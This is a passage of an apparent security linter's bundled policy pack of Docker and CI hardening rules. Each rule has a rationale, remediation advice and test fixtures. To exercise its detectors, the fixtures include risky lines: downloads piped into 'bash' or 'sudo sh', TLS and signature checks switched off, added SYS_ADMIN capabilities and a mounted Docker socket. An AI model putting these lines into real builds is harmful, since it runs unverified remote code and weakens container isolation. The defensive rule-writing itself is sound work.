-  packs ??= JSON.parse('[{"id":"docker","title":"Docker runtime and image security","description":"What Docker\'s own security guidance, the CIS Docker Benchmark v1.6.0 (sections 4 and 5) and the OWASP Docker Security Cheat Sheet ask of every container and image, wherever it is described: Compose services, workflow job and service containers, `docker run` in scripts, Dockerfiles.","version":"0.1.0","rules":[{"id":"command-chmod-insecure","pack":"docker","title":"Build makes files world-writable or adds setuid/setgid bits","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"if":{"properties":{"name":{"const":"chmod"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"insecureMode"}}}}}}},"message":"`chmod {{value}}` makes files in the image world-writable or setuid/setgid, so any process in the container can replace them, or a bug in a setuid program becomes root. Give the files to the user that needs them (`COPY --chown`, `chown`) with a mode such as `755` or `644`.","rationale":"World-writable files and directories let any user in the container alter programs and configuration that others (including root) then run; `chmod 777` is usually a shortcut around an ownership problem. Setuid and setgid bits give a program its owner\'s or group\'s privileges whoever runs it, which makes every bug in it a privilege escalation. The CIS Docker Benchmark (4.8) asks that setuid and setgid permissions be removed from images. The sticky-bit mode `1777` (a shared temp directory) is not reported.","remediation":"Give ownership to the runtime user instead of opening the permissions to everyone:\\n\\n```dockerfile\\nCOPY --chown=10001:10001 app/ /app/\\nRUN mkdir -p /app/data && chown 10001:10001 /app/data && chmod 750 /app/data\\nUSER 10001\\n```\\n\\nTo strip setuid and setgid bits from a base image:\\n`RUN find / -xdev -perm /6000 -type f -exec chmod a-s {} + || true`.","references":[{"framework":"cis-docker","id":"1.6.0:4.8"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"insecureMode":"^0?[0-7]{2}[2367]$|^[2-7][0-7]{3}$|(^|,)[ug]*[oa][ugoa]*[+=][rxXst]*w|[+=][rwxXt]*s"},"paramSchemas":{"insecureMode":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Octal modes that let everyone write (the last digit has the write bit, without the sticky bit that makes /tmp-style directories safe) or that set setuid/setgid; symbolic `o+w`, `a+w`, `a=rwx`, `u+s`, `g+s`."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/data && chmod -R 777 /app/data\\nRUN chmod u+s /usr/local/bin/helper\\nRUN [\\"chmod\\", \\"4755\\", \\"/usr/local/bin/backup\\"]\\nRUN chmod a+rw /etc/app.conf\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49},{"line":3,"column":1,"endLine":3,"endColumn":36},{"line":4,"column":1,"endLine":4,"endColumn":47},{"line":5,"column":1,"endLine":5,"endColumn":29}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/tmp && chmod 1777 /app/tmp \\\\\\n && chmod 755 /usr/local/bin/entrypoint.sh \\\\\\n && chmod go-w /etc/app.conf \\\\\\n && chmod a-s /usr/bin/newgrp \\\\\\n && chmod u+x,g+x /usr/local/bin/run\\n","expect":[]}],"source":"policies/docker/command-chmod-insecure.yaml"},{"id":"command-download-piped-to-shell","pack":"docker","title":"Downloaded script piped straight into a shell","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"enum":{"$param":"downloaders"}}}},"then":{"properties":{"pipedTo":{"not":{"enum":{"$param":"shells"}}}}}},{"if":{"properties":{"name":{"enum":["sh","bash","dash","ash","zsh","ksh","mksh","eval"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"substitutedDownload"}}}}}}}]},"message":"`{{subject.name}}` runs a script fetched from the network without checking it, so whoever controls that URL (or the connection) runs code here, with this build\'s or job\'s access. Download to a file, verify its checksum or signature, then run it, or install the tool from a package with a pinned version.","rationale":"`curl \u2026 | sh` executes whatever the server returns at that moment: a compromised or hijacked host, a changed install script or a truncated download runs with the privileges of the build (root, in most Dockerfiles) or of the CI job (with its token and secrets). Nothing in the repository records what ran, so the result cannot be reproduced or audited. The CIS Docker Benchmark (4.11) asks that only verified packages be installed, and the OWASP cheat sheet (rule 9) treats unverified downloads as a supply-chain risk.","remediation":"Fetch a pinned version to a file, check it against a published digest, then run it:\\n\\n```dockerfile\\nARG INSTALLER_SHA256=<sha256 of install.sh at v1.2.0>\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"${INSTALLER_SHA256}  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh && rm /tmp/install.sh\\n```\\n\\nBetter still, install the tool from the distribution\'s package manager or copy it from a\\npinned image (`COPY --from=ghcr.io/example/tool:1.2.0@sha256:\u2026 /tool /usr/local/bin/`).","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"owasp-docker","id":"RULE #9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{"downloaders":["curl","wget"],"shells":["sh","bash","dash","ash","zsh","ksh","mksh","python","python3","perl","ruby","node","php"],"substitutedDownload":"^\\\\$\\\\((curl|wget)\\\\s"},"paramSchemas":{"downloaders":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Programs that download a URL (command names, as the command subject gives them)."},"shells":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Interpreters that run what they read on standard input (or in `-c \\"$(\u2026)\\"`)."},"substitutedDownload":{"schema":{"type":"string","format":"regex","minLength":1},"description":"An argument that runs a download\'s output: `sh -c \\"$(curl \u2026)\\"`, `eval \\"$(wget -O- \u2026)\\"`."}},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && curl -fsSL https://deb.nodesource.com/setup_22.x | bash - \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN wget -qO- https://get.example.com/install.sh | sudo sh\\nRUN sh -c \\"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\\"\\n","expect":[{"line":3,"column":2,"endLine":3,"endColumn":62},{"line":5,"column":1,"endLine":5,"endColumn":59},{"line":6,"column":1,"endLine":6,"endColumn":100}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh\\nRUN curl -fsSL https://example.com/data.json | jq .version\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b /usr/local/bin\\n          golangci-lint run\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":125}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL https://api.github.com/repos/example/app/releases/latest | jq -r .tag_name\\n","expect":[]}],"source":"policies/docker/command-download-piped-to-shell.yaml"},{"id":"command-tls-verification-disabled","pack":"docker","title":"Command turns off TLS certificate or package signature checks","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"const":"curl"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--insecure$|-[a-zA-Z]*k)"}}}}}},{"if":{"properties":{"name":{"const":"wget"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--no-check-certificate"}}}}}},{"if":{"properties":{"name":{"enum":["apt-get","apt","aptitude"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(allow-unauthenticated|allow-insecure-repositories|force-yes)$|Verify-(Peer|Host)=(false|0)$|AllowUnauthenticated=(true|1)$"}}}}}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf","zypper"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(nogpgcheck|no-gpg-checks)$|^--setopt=(sslverify|gpgcheck|repo_gpgcheck)=(0|false|False)$"}}}}}},{"if":{"properties":{"name":{"const":"rpm"}}},"then":{"properties":{"args":{"items":{"not":{"enum":["--nosignature","--nodigest"]}}}}}},{"if":{"properties":{"name":{"const":"apk"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--allow-untrusted"}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3","python","python3","uv"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--trusted-host(=|$)"}}}}}},{"if":{"properties":{"name":{"enum":["npm","yarn","pnpm"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--)?strict-ssl(=false)?$"}}}}}},{"if":{"properties":{"name":{"const":"git"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^http\\\\..*[sS][sS][lL][vV][eE][rR][iI][fF][yY](=(false|0|no|off))?$"}}}}}}]},"message":"`{{subject.name}}` is told to skip certificate or signature checks (`{{value}}`), so anyone who can intercept or spoof the server can hand it different code or packages. Remove the option and fix the trust problem instead: install the CA certificate, or import the repository\'s signing key.","rationale":"TLS certificates and package signatures are what tie a download to its publisher. Options such as `curl -k`, `wget --no-check-certificate`, `apt-get --allow-unauthenticated`, `--nogpgcheck`, `apk --allow-untrusted`, `pip --trusted-host`, npm\'s `strict-ssl false` and git\'s `http.sslVerify=false` accept whatever answers, which turns a network position (a proxy, a rogue Wi-Fi, a poisoned DNS entry, a compromised mirror) into code execution in the image or the CI job. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Keep verification on and give the tool what it needs to verify:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates \\\\\\n && curl -fsSLo /tmp/tool.tgz https://tools.example.com/tool-1.2.0.tgz\\n```\\n\\nFor a third-party package repository, import its signing key (`signed-by=` in the apt source)\\ninstead of allowing unauthenticated packages.","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSLk https://tools.example.com/tool.tgz -o /tmp/tool.tgz \\\\\\n && wget --no-check-certificate -q https://example.com/a.tgz\\nRUN apt-get install -y --allow-unauthenticated internal-agent\\nRUN pip install --trusted-host pypi.example.com internal-lib==1.0\\nRUN git -c http.sslVerify=false clone https://git.example.com/app.git\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":68},{"line":3,"column":2,"endLine":3,"endColumn":61},{"line":4,"column":1,"endLine":4,"endColumn":62},{"line":5,"column":1,"endLine":5,"endColumn":66},{"line":6,"column":1,"endLine":6,"endColumn":70}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache --allow-untrusted /tmp/pkgs/*.apk\\nRUN npm config set strict-ssl false\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":57},{"line":3,"column":1,"endLine":3,"endColumn":36}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSL -o /tmp/tool.tgz https://tools.example.com/tool.tgz \\\\\\n && git -c http.sslVerify=true clone https://github.com/example/app.git\\nRUN apt-get install -y --no-install-recommends ca-certificates\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN sort -k 2 /etc/passwd\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl --insecure -fsSL https://staging.example.com/healthz\\n          git -c http.sslVerify=true fetch origin\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":68}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL --cacert ./ca.pem https://staging.example.com/healthz\\n","expect":[]}],"source":"policies/docker/command-tls-verification-disabled.yaml"},{"id":"container-capabilities-not-dropped","pack":"docker","title":"Container keeps Docker\'s default capabilities (no cap_drop ALL)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"cap_drop":{"not":{"items":{"not":{"const":"ALL"}}}}}},"message":"{{name}} keeps Docker\'s default capabilities (CHOWN, DAC_OVERRIDE, FOWNER, SETUID, NET_RAW, \u2026), which a compromised process can use to change file ownership, switch users or craft raw packets. Add `cap_drop: [ALL]` and add back with `cap_add` only what the service needs.","rationale":"Docker grants every container fourteen capabilities by default, chosen for compatibility, not for any particular workload. Most services need none or one of them (`NET_BIND_SERVICE` for a port below 1024). `NET_RAW` alone allows ARP and DNS spoofing on the container network, and `DAC_OVERRIDE`, `FOWNER`, `SETUID` and `SETGID` make a compromise inside the container easier to turn into root. The CIS Docker Benchmark and the OWASP cheat sheet ask to drop every capability and add back only the required ones. Informational by default: images that switch users or change file ownership at start-up need a few capabilities added back, which takes testing.","remediation":"Drop all capabilities and add back only what the service needs:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nShared hardening can live in an `x-` block merged into every service with `<<: *hardening`.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    cap_drop: [NET_RAW]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":24}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  cap_drop: [all]\\nservices:\\n  api:\\n    <<: *hardening\\n    image: ghcr.io/example/api:1.4.2\\n  web:\\n    image: nginx:1.27\\n    cap_drop:\\n      - ALL\\n    cap_add:\\n      - NET_BIND_SERVICE\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-capabilities-not-dropped.yaml"},{"id":"container-cgroup-host","pack":"docker","title":"Container uses the host\'s cgroup namespace or a custom cgroup parent","severity":"medium","subject":"container","schema":{"properties":{"cgroup":{"not":{"const":"host"}},"cgroup_parent":false}},"message":"{{name}} sets `{{key}}`, which takes it out of the cgroup Docker manages for it, so its resource limits and accounting depend on a cgroup outside Docker\'s control (or, with `cgroup: host`, it sees the host\'s whole cgroup tree). Remove the setting unless the host\'s cgroup layout was designed for it.","rationale":"Docker places each container in its own cgroup under the daemon\'s parent, which is where its memory, CPU and PID limits are enforced. `cgroup_parent` moves it under another cgroup whose limits this file does not show, and `cgroup: host` shares the host\'s cgroup namespace, exposing every host cgroup to the container (and, with a writable cgroupfs, a known escape path). The CIS Docker Benchmark (5.25) asks that cgroup usage be confirmed and that the default be kept.","remediation":"Remove `cgroup_parent` and `cgroup: host` (or `--cgroup-parent`, `--cgroupns host`) and let\\nDocker manage the container\'s cgroup; set limits with `mem_limit`, `cpus` and `pids_limit`:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n    mem_limit: 512m\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.25"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#cgroup"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  monitor:\\n    image: ghcr.io/example/monitor:1.0.0\\n    cgroup: host\\n  batch:\\n    image: ghcr.io/example/batch:1.0.0\\n    cgroup_parent: /batch.slice\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":17},{"line":7,"column":5,"endLine":7,"endColumn":32}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --cgroupns=host ghcr.io/example/monitor:1.0.0\\n          docker run --rm --cgroup-parent /ci.slice alpine:3.20 true\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":72},{"line":8,"column":11,"endLine":8,"endColumn":69}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      monitor:\\n        image: ghcr.io/example/monitor:1.0.0\\n        options: --cgroupns host\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":33}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cgroupns private\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/docker/container-cgroup-host.yaml"},{"id":"container-confinement-disabled","pack":"docker","title":"Container runs without seccomp, AppArmor or SELinux confinement","severity":"high","subject":"container","schema":{"properties":{"security_opt":{"items":{"not":{"pattern":{"$param":"disablingOptions"}}}}}},"message":"{{name}} switches off a kernel security layer with `{{value}}`, so an exploit inside it meets none of the system-call or mandatory-access-control filtering Docker applies by default. Remove the option; if the default profile blocks something the workload needs, write a custom profile that allows just that.","rationale":"Docker confines every container with a seccomp filter that blocks dangerous system calls, an AppArmor profile (`docker-default`) or an SELinux label, and masks sensitive `/proc` and `/sys` paths. These layers are what stop many kernel exploits and container escapes even when the process runs as root. `seccomp=unconfined`, `apparmor=unconfined`, `label=disable` and `systempaths=unconfined` each remove one of them for the whole container. The CIS Docker Benchmark and the OWASP cheat sheet ask that the default profiles stay on.","remediation":"Remove the option. If a system call or file access is genuinely needed, start from Docker\'s\\ndefault profile and allow only that:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - seccomp=./seccomp/app.json   # the default profile plus the one syscall needed\\n      - no-new-privileges=true\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.22"},{"framework":"cis-docker","id":"1.6.0:5.2"},{"framework":"cis-docker","id":"1.6.0:5.3"},{"framework":"owasp-docker","id":"RULE #6"},{"framework":"url","url":"https://docs.docker.com/engine/security/seccomp/"},{"framework":"url","url":"https://docs.docker.com/engine/security/apparmor/"}],"params":{"disablingOptions":"^(seccomp|apparmor|systempaths)=\\\\s*unconfined$|^label=\\\\s*disable$"},"paramSchemas":{"disablingOptions":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Security options that switch seccomp, AppArmor or SELinux confinement off. Matched against `security_opt` entries, which the container subject normalizes to `key=value` (`seccomp:unconfined` becomes `seccomp=unconfined`)."}},"tests":[{"file":"compose.yaml","content":"services:\\n  chrome:\\n    image: browserless/chrome:1.61\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp:unconfined\\n      - \\"apparmor=unconfined\\"\\n      - label:disable\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":27},{"line":7,"column":9,"endLine":7,"endColumn":30},{"line":8,"column":9,"endLine":8,"endColumn":22}]},{"file":"compose.yaml","content":"x-unconfined: &unconfined\\n  security_opt: [seccomp=unconfined]\\nservices:\\n  builder:\\n    <<: *unconfined\\n    image: moby/buildkit:v0.16.0\\n","expect":[{"line":2,"column":18,"endLine":2,"endColumn":36}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp=./seccomp/app.json\\n      - apparmor=docker-default\\n      - label=type:svirt_apache_t\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  browser-tests:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: mcr.microsoft.com/playwright:v1.48.0-noble\\n      options: --security-opt seccomp=unconfined --ipc private\\n    steps:\\n      - run: npx playwright test\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":63}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --security-opt apparmor:unconfined \\\\\\n            --security-opt label=disable moby/buildkit:v0.16.0 --version\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":63},{"line":7,"column":11,"endLine":7,"endColumn":63}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --security-opt no-new-privileges --security-opt seccomp=${{ inputs.profile }}\\n    steps:\\n      - run: docker run --rm --security-opt seccomp=/etc/docker/seccomp.json alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-confinement-disabled.yaml"},{"id":"container-dangerous-capability","pack":"docker","title":"Container adds a dangerous Linux capability","severity":"high","subject":"container","schema":{"properties":{"cap_add":{"items":{"not":{"enum":{"$param":"dangerousCapabilities"}}}}}},"message":"{{name}} adds the {{value}} capability, which lets a compromised process reach past the container into the host kernel. Remove it, or replace it with the narrow capability the workload actually needs after `cap_drop: [ALL]`.","rationale":"Docker starts containers with a short list of capabilities and withholds the ones that act on the whole machine. `ALL` and `SYS_ADMIN` come close to privileged mode (mounting filesystems, escaping through cgroups); `SYS_MODULE` loads kernel code; `SYS_PTRACE` reads and alters other processes; `DAC_READ_SEARCH` opens any host file by handle (the \\"shocker\\" escape); `SYS_RAWIO`, `SYS_BOOT` and `SYS_TIME` touch devices, reboots and the host clock; `NET_ADMIN` reconfigures interfaces, routes and firewall rules; `BPF` and `PERFMON` load and observe kernel programs; `MAC_ADMIN`/`MAC_OVERRIDE` change or bypass AppArmor and SELinux; `SYSLOG` and `LINUX_IMMUTABLE` affect host logs and file flags. The CIS Docker Benchmark and the OWASP cheat sheet both ask to add only the capabilities a workload needs; the list is the `dangerousCapabilities` parameter.","remediation":"Drop every capability and add back only the specific one the process needs:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nFor a workflow\'s `options:` or a `docker run`, write `--cap-drop ALL --cap-add NET_BIND_SERVICE`.\\nA VPN or network tool that truly needs `NET_ADMIN` belongs on a dedicated host, not next to\\napplication services.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"},{"framework":"url","url":"https://docs.docker.com/engine/security/#linux-kernel-capabilities"}],"params":{"dangerousCapabilities":["ALL","SYS_ADMIN","NET_ADMIN","SYS_MODULE","SYS_PTRACE","SYS_RAWIO","SYS_BOOT","SYS_TIME","DAC_READ_SEARCH","BPF","PERFMON","MAC_ADMIN","MAC_OVERRIDE","SYSLOG","LINUX_IMMUTABLE"]},"paramSchemas":{"dangerousCapabilities":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Capabilities that act on the whole host. Upper case, without the CAP_ prefix: the container subject normalizes `cap_sys_admin`, `CAP_SYS_ADMIN` and `SYS_ADMIN` to `SYS_ADMIN`."}},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    cap_add:\\n      - NET_BIND_SERVICE\\n      - CAP_sys_admin\\n      - net_admin\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":22},{"line":7,"column":9,"endLine":7,"endColumn":18}]},{"file":"compose.yaml","content":"x-caps: &caps\\n  cap_add: [ALL]\\nservices:\\n  tool:\\n    <<: *caps\\n    image: alpine:3.20\\n","expect":[{"line":2,"column":13,"endLine":2,"endColumn":16}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: golang:1.23\\n      options: --cap-add=SYS_PTRACE --cap-add CAP_NET_RAW\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --cap-add SYS_ADMIN --device /dev/fuse\\n    steps:\\n      - run: go test ./...\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":58},{"line":11,"column":9,"endLine":11,"endColumn":56}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: |\\n          docker run --rm --cap-add ALL alpine:3.20 true\\n          docker run --rm --cap-drop ALL --cap-add NET_BIND_SERVICE nginx:1.27\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":57}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        options: --cap-drop ALL --cap-add NET_BIND_SERVICE --cap-add ${{ matrix.cap }}\\n    steps:\\n      - run: docker run --rm --cap-add CHOWN alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-dangerous-capability.yaml"},{"id":"container-default-bridge-network","pack":"docker","title":"Container uses Docker\'s default bridge network","severity":"low","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"bridge"}}}},"message":"{{name}} is attached to the default `bridge` network (docker0), where every container can reach every other container started the same way, and names do not resolve. Remove `network_mode: bridge` so Compose puts it on the project\'s own network, or attach it to a user-defined network.","rationale":"The default bridge network is shared by every container started without a network: they can all talk to each other on any port, with no isolation between unrelated applications, and the network offers no DNS between containers (which encourages the deprecated `--link`). User-defined networks isolate groups of containers and resolve names. The CIS Docker Benchmark (5.30) asks that docker0 not be used; the OWASP cheat sheet (rule 5) asks to isolate containers with networks.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n```\\n\\nFor `docker run`, create a network once (`docker network create app`) and pass `--network app`.","references":[{"framework":"cis-docker","id":"1.6.0:5.30"},{"framework":"owasp-docker","id":"RULE #5"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/bridge/#differences-between-user-defined-bridges-and-the-default-bridge"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    network_mode: bridge\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":25}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --network bridge\\n    steps:\\n      - run: |\\n          docker run -d --net=bridge nginx:1.27\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":34},{"line":11,"column":11,"endLine":11,"endColumn":48}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker network create e2e\\n          docker run -d --network e2e nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-default-bridge-network.yaml"},{"id":"container-docker-socket","pack":"docker","title":"Docker socket mounted into a container","severity":"critical","subject":"container","schema":{"properties":{"use_api_socket":{"not":{"const":true}},"volumes":{"items":{"not":{"required":["source"],"properties":{"source":{"pattern":{"$param":"socketPaths"}}}}}}}},"message":"{{name}} mounts the Docker socket: any process in it can start a privileged container and so owns the host, and `:ro` does not prevent that. Remove the mount; if the service must talk to Docker, put an authorizing proxy in front of a TLS-protected daemon.","rationale":"The Docker daemon runs as root and its socket is its whole API. A container that can reach the socket can create a new container that is privileged and mounts the host\'s root filesystem, which is root on the host. Mounting the socket read-only changes nothing: API calls are writes to the socket whatever the mount mode. Compose\'s `use_api_socket: true` grants the same access.","remediation":"Remove the socket mount. If the service genuinely manages containers (a CI runner, a reverse\\nproxy that reads labels), run it against a socket proxy that allows only the API calls it needs,\\nor a rootless daemon, and never in a service that handles untrusted input.\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: traefik:v3.1\\n    # volumes:\\n    #   - /var/run/docker.sock:/var/run/docker.sock   # removed\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.32"},{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/#docker-daemon-attack-surface"}],"params":{"socketPaths":"^(/var)?/run/docker\\\\.sock/?$"},"paramSchemas":{"socketPaths":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A host path (as written) that is the Docker daemon socket."}},"tests":[{"file":"compose.yaml","content":"services:\\n  traefik:\\n    image: traefik:v3.1\\n    volumes:\\n      - ./traefik.yml:/etc/traefik/traefik.yml:ro\\n      - /var/run/docker.sock:/var/run/docker.sock:ro\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":53}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: portainer/agent:2.21\\n    volumes:\\n      - type: bind\\n        source: /run/docker.sock\\n        target: /var/run/docker.sock\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  builder:\\n    image: docker:27-cli\\n    use_api_socket: 